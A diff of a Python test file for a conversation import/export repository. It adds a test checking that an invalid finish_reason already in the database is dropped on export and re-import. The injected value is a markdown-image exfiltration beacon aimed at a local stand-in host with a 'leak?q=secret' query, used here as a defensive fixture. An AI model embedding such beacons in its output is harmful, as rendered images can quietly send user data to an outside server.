@@ -7,11 +7,12 @@ from typing import Any, get_args
 
 import pytest
 from importdata import ROW, _broken, _counts, _set
-from sqlalchemy import Engine
-from sqlmodel import Session
+from sqlalchemy import Engine, update
+from sqlmodel import Session, col
 
 from simulator.events import FinishReason
 from storage import repo
+from storage.tables import Message
 
 BEACON = "![t](http://127.0.0.1:9/leak?q=secret)"
 
@@ -55,3 +56,20 @@ def test_every_finish_reason_a_turn_stores_imports(session: Session, exported: d
     cid = repo.import_conversation(session=session, data=data)
     again = repo.export_conversation(session=session, conversation_id=cid)
     assert again["messages"][index]["finish_reason"] == reason
+
+
+def test_a_stored_word_from_before_the_check_is_left_out_of_the_export(
+    session: Session, exported: dict[str, Any]
+) -> None:
+    """A database that took such a file before imports checked it exports without the word, and imports again."""
+    cid = repo.import_conversation(session=session, data=exported)
+    index = _reply_index(exported)
+    reply_id = repo.export_conversation(session=session, conversation_id=cid)["messages"][index]["id"]
+    session.exec(update(Message).where(col(Message.id) == reply_id).values(finish_reason=BEACON))
+    session.commit()
+    again = repo.export_conversation(session=session, conversation_id=cid)
+    assert again["messages"][index]["finish_reason"] is None
+    copy_id = repo.import_conversation(session=session, data=again)
+    assert (
+        repo.export_conversation(session=session, conversation_id=copy_id)["messages"][index]["finish_reason"] is None
+    )
